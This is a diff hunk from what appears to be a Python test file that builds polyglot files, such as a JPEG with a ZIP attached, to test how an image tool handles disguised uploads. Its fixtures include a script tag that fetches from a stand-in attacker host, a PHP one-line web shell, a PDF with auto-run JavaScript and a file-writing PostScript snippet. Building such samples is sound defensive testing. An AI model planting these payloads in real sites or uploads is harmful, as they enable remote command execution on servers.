@@ -88,7 +88,7 @@ def zipped(inside: bytes) -> bytes:
 
 SCRIPT = b"<script>fetch('//evil.example')</script><?php system($_GET[0]); ?>"
 PDF = b"%PDF-1.4\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF"
-EPS = b"%!PS\n(/tmp/imgrec-was-here) (w) file closefile showpage\n"
+EPS = b"%!PS\n(written-by-a-picture) (w) file closefile showpage\n"
 # As one thing they are a picture that is read; as the other they are nothing to us.
 BOTH = {
     "JPEG and ZIP": lambda: saved("JPEG") + zipped(SCRIPT),
